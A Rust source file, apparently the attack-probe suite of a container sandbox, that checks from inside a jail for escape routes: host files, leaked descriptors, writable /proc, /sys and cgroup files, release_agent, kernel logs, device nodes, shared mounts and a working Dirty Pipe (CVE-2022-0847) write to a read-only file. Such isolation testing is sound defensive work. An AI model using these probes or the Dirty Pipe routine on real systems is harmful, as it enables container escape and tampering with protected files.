//! Files that a jail must not see, read or write, and mounts that it must not have.

use std::{
    fs::{self, File, OpenOptions},
    io::Read as _,
    os::unix::fs::{FileExt as _, OpenOptionsExt as _},
    path::{Path, PathBuf},
};

use crate::{Attack, Outcome, raw};

pub(crate) const ATTACKS: &[Attack] = &[
    ("host-root", host_root),
    ("working-directory", working_directory),
    ("leaked-files", leaked_files),
    ("masked-files", masked_files),
    ("sys-of-the-host", sys_of_the_host),
    ("volume-of-the-host", volume_of_the_host),
    ("proc-sys-write", proc_sys_write),
    ("proc-write", proc_write),
    ("sys-write", sys_write),
    ("cgroup-write", cgroup_write),
    ("cgroup-path", cgroup_path),
    ("release-agent", release_agent),
    ("kernel-log", kernel_log),
    ("device-in-image", device_in_image),
    ("mknod", mknod),
    ("consoles", consoles),
    ("shared-mounts", shared_mounts),
    ("mount-elsewhere", mount_elsewhere),
    ("page-cache-write", page_cache_write),
    ("oom-score", oom_score),
];

/// Files that only the host has.
const OF_THE_HOST: [&str; 3] = ["usr/lib/warder/jailsupd", "data/jails", "run/jailsupd"];

fn host_root() -> Outcome {
    found_below(Path::new("/"))
}

/// Where a working directory outside of the root would lead.
fn working_directory() -> Outcome {
    // C libraries know no name for what is not below the root.
    if let Ok(directory) = std::env::current_dir() {
        return Err(format!("the working directory is {}", directory.display()));
    }
    found_below(Path::new(".")).or_else(|_| found_below(Path::new("../../../..")))
}

fn found_below(root: &Path) -> Outcome {
    let found = OF_THE_HOST.iter().map(|path| root.join(path)).find(|path| path.exists());
    found
        .map(|path| format!("{} is visible", path.display()))
        .ok_or_else(|| "no file of the host".into())
}

/// Descriptors that the service did not open: all but the first three.
fn leaked_files() -> Outcome {
    let mut leaked = Vec::new();
    for number in 3..1024 {
        if let Ok(target) = fs::read_link(format!("/proc/self/fd/{number}")) {
            leaked.push(format!("{number} -> {}", target.display()));
        }
    }
    if leaked.is_empty() { Err("no descriptor is left open".into()) } else { Ok(leaked.join(", ")) }
}

fn masked_files() -> Outcome {
    let masked = [
        "/proc/acpi",
        "/proc/asound",
        "/proc/interrupts",
        "/proc/kallsyms",
        "/proc/kcore",
        "/proc/keys",
        "/proc/latency_stats",
        "/proc/sched_debug",
        "/proc/scsi",
        "/proc/timer_list",
        "/sys/devices/virtual/powercap",
        "/sys/firmware",
    ];
    let shown: Vec<_> = masked.into_iter().filter(|path| shows_something(path)).collect();
    if shown.is_empty() {
        Err("all are empty".into())
    } else {
        Ok(format!("show something: {}", shown.join(" ")))
    }
}

/// The host's disks, buses, firmware and terminals.
fn sys_of_the_host() -> Outcome {
    let all = ["block", "bus/pci/devices", "class/block", "class/tty", "dev/block", "module"];
    let paths = all.iter().map(|name| format!("/sys/{name}"));
    let shown: Vec<_> = paths.filter(|path| shows_something(path)).collect();
    if shown.is_empty() {
        Err("none is there".into())
    } else {
        Ok(format!("show something: {}", shown.join(" ")))
    }
}

/// A volume that another jail's link has led to the host's files.
fn volume_of_the_host() -> Outcome {
    match fs::read_to_string("/mnt/passwd") {
        Ok(text) if text.contains("mallory") => {
            Ok("the volume shows /run/hostile of the host".into())
        }
        _ => Err("the volume shows no file of the host".into()),
    }
}

fn shows_something(path: &str) -> bool {
    if Path::new(path).is_dir() {
        return fs::read_dir(path).is_ok_and(|mut entries| entries.next().is_some());
    }
    let mut byte = [0];
    File::open(path).is_ok_and(|mut file| file.read(&mut byte).is_ok_and(|read| read > 0))
}

fn proc_sys_write() -> Outcome {
    writable_below(Path::new("/proc/sys"), 9)
}

/// All of /proc but its processes and what belongs to this one.
fn proc_write() -> Outcome {
    let entries = fs::read_dir("/proc").map_err(|error| error.to_string())?;
    let foreign = |path: &PathBuf| {
        let name = path.file_name().unwrap_or_default().to_string_lossy().into_owned();
        let own = ["self", "thread-self", "sys", "net", "mounts"];
        name.parse::<u32>().is_err() && !own.contains(&name.as_str())
    };
    let paths = entries.filter_map(Result::ok).map(|entry| entry.path()).filter(foreign);
    let mut found = Vec::new();
    for path in paths {
        if let Ok(more) = writable_below(&path, 4) {
            found.push(more);
        }
    }
    if found.is_empty() { Err("nothing opens for writing".into()) } else { Ok(found.join(" ")) }
}

fn sys_write() -> Outcome {
    let mut found = Vec::new();
    for root in [
        "/sys/kernel",
        "/sys/module",
        "/sys/class",
        "/sys/fs",
        "/sys/power",
        "/sys/block",
        "/sys/devices/virtual",
    ] {
        if let Ok(more) = writable_below(Path::new(root), 5) {
            found.push(more);
        }
    }
    if found.is_empty() { Err("nothing opens for writing".into()) } else { Ok(found.join(" ")) }
}

/// The regular files that open for writing; no byte is written.
fn writable_below(path: &Path, depth: usize) -> Outcome {
    let mut found = Vec::new();
    collect_writable(path, depth, &mut found);
    if found.is_empty() {
        return Err("nothing opens for writing".into());
    }
    let all = found.len();
    found.truncate(5);
    Ok(format!("{all} open for writing: {}", found.join(" ")))
}

fn collect_writable(path: &Path, depth: usize, found: &mut Vec<String>) {
    let Ok(kind) = fs::symlink_metadata(path) else { return };
    if kind.is_dir() && depth > 0 {
        let entries = fs::read_dir(path).into_iter().flatten().filter_map(Result::ok);
        for entry in entries {
            collect_writable(&entry.path(), depth - 1, found);
        }
    } else if kind.is_file() && opens_for_writing(path) {
        found.push(path.display().to_string());
    }
}

fn opens_for_writing(path: &Path) -> bool {
    let mut options = OpenOptions::new();
    options.write(true).custom_flags(libc::O_NONBLOCK | libc::O_NOFOLLOW).open(path).is_ok()
}

fn cgroup_write() -> Outcome {
    let root = Path::new("/sys/fs/cgroup");
    if fs::create_dir(root.join("mine")).is_ok() {
        return Ok("a cgroup can be made".into());
    }
    let files =
        ["cgroup.procs", "cgroup.subtree_control", "cgroup.freeze", "memory.max", "pids.max"];
    let open = files.iter().find(|file| opens_for_writing(&root.join(file)));
    open.map(|file| format!("{file} opens for writing"))
        .ok_or_else(|| "nothing opens for writing".into())
}

/// In a cgroup namespace of its own, the jail's cgroup is the root.
fn cgroup_path() -> Outcome {
    let text = fs::read_to_string("/proc/self/cgroup").map_err(|error| error.to_string())?;
    let path = text.trim_end().rsplit(':').next().unwrap_or_default();
    if path == "/" {
        Err("the cgroup is /".into())
    } else {
        Ok(format!("the host's cgroups are seen: {path}"))
    }
}

/// cgroup v1 runs a program of the jail's choice as root of the host: there must be no v1.
fn release_agent() -> Outcome {
    let target = c"/tmp";
    for kind in [c"cgroup", c"cgroup2"] {
        let arguments = [
            raw::address(c"x"),
            raw::address(target),
            raw::address(kind),
            0,
            raw::address(c"rdma"),
        ];
        if raw::call(libc::SYS_mount, &arguments).is_ok() {
            return Ok(format!("{} can be mounted", kind.to_string_lossy()));
        }
    }
    let mut found = Vec::new();
    collect_writable(Path::new("/sys/fs/cgroup"), 3, &mut found);
    let agent = found.into_iter().find(|path| path.ends_with("release_agent"));
    agent.ok_or_else(|| "no release_agent, and no cgroup can be mounted".into())
}

fn kernel_log() -> Outcome {
    for path in ["/dev/kmsg", "/proc/kmsg"] {
        let file = OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(path);
        if file.is_ok_and(|mut file| file.read(&mut [0; 8192]).is_ok_and(|read| read > 0)) {
            return Ok(format!("{path} can be read"));
        }
    }
    const READ_ALL: usize = 3;
    let mut text = [0u8; 4096];
    match raw::call(libc::SYS_syslog, &[READ_ALL, raw::address_mut(&mut text), text.len()]) {
        Ok(read) if read > 0 => Ok("syslog(2) reads the kernel's log".into()),
        Ok(_) => Err("syslog(2) reads nothing".into()),
        Err(errno) => Err(format!("syslog: {errno}")),
    }
}

/// The image brings a node of its own: here the host's serial console, which anybody may open.
fn device_in_image() -> Outcome {
    let mut options = OpenOptions::new();
    options.read(true).write(true).custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY);
    options.open("/hostile/console").map_err(|error| format!("open: {error}"))?;
    Ok("the host's console opens".into())
}

fn mknod() -> Outcome {
    let null = 1 << 8 | 3;
    let mode = raw::word(libc::S_IFCHR | 0o666);
    raw::call(libc::SYS_mknod, &[raw::address(c"/dev/own-node"), mode, null])
        .map_err(|errno| format!("mknod: {errno}"))?;
    File::open("/dev/own-node").map_err(|error| format!("the node does not open: {error}"))?;
    Ok("a node of its own opens".into())
}

fn consoles() -> Outcome {
    let all = [
        "console", "tty0", "tty1", "ttyS0", "hvc0", "vcs", "vcsa1", "fb0", "mem", "port", "kvm",
        "vda", "fuse",
    ];
    let paths = all.iter().map(|name| Path::new("/dev").join(name));
    let mut open = paths.filter(|path| {
        let flags = libc::O_NONBLOCK | libc::O_NOCTTY;
        OpenOptions::new().read(true).custom_flags(flags).open(path).is_ok()
    });
    open.next().map(|path| format!("{} opens", path.display())).ok_or_else(|| "none opens".into())
}

/// A mount that takes part in another namespace's would carry what is mounted in or out.
fn shared_mounts() -> Outcome {
    let text = fs::read_to_string("/proc/self/mountinfo").map_err(|error| error.to_string())?;
    let shared = text.lines().find(|line| line.contains(" shared:") || line.contains(" master:"));
    shared.map(str::to_owned).ok_or_else(|| "all mounts are private".into())
}

/// A link in the image has taken one of the jail's own mounts to another place.
fn mount_elsewhere() -> Outcome {
    let text = fs::read_to_string("/proc/self/mountinfo").map_err(|error| error.to_string())?;
    let tmp = text.lines().find(|line| line.contains(" /tmp "));
    tmp.map(str::to_owned).ok_or_else(|| "no mount at /tmp".into())
}

/// The Dirty Pipe way (CVE-2022-0847): a page of a read-only file in a pipe, and a write behind it.
fn page_cache_write() -> Outcome {
    let me = File::open("/bin/attacker").map_err(|error| error.to_string())?;
    let mut before = [0; 64];
    me.read_exact_at(&mut before, 0).map_err(|error| error.to_string())?;
    let mut ends = [0i32; 2];
    raw::call(libc::SYS_pipe2, &[raw::address_mut(&mut ends), 0])
        .map_err(|errno| format!("pipe: {errno}"))?;
    let [read, write] = ends.map(raw::word);
    let page = [0u8; 4096];
    for _ in 0..16 {
        raw::call(libc::SYS_write, &[write, raw::address(&page), page.len()])
            .map_err(|errno| format!("write: {errno}"))?;
    }
    let mut drained = [0u8; 4096];
    for _ in 0..16 {
        raw::call(libc::SYS_read, &[read, raw::address_mut(&mut drained), drained.len()])
            .map_err(|errno| format!("read: {errno}"))?;
    }
    let mut offset = 1u64;
    let from = raw::number(&me);
    raw::call(libc::SYS_splice, &[from, raw::address_mut(&mut offset), write, 0, 1, 0])
        .map_err(|errno| format!("splice: {errno}"))?;
    raw::call(libc::SYS_write, &[write, raw::address(b"WALLS"), 5])
        .map_err(|errno| format!("write: {errno}"))?;
    let mut after = [0; 64];
    me.read_exact_at(&mut after, 0).map_err(|error| error.to_string())?;
    if before == after {
        Err("the file is as it was".into())
    } else {
        Ok("a read-only file has changed".into())
    }
}

/// A jail that the kernel spares takes its neighbours along.
fn oom_score() -> Outcome {
    fs::write("/proc/self/oom_score_adj", "-1000").map_err(|error| error.to_string())?;
    Ok("this process cannot be killed for memory".into())
}
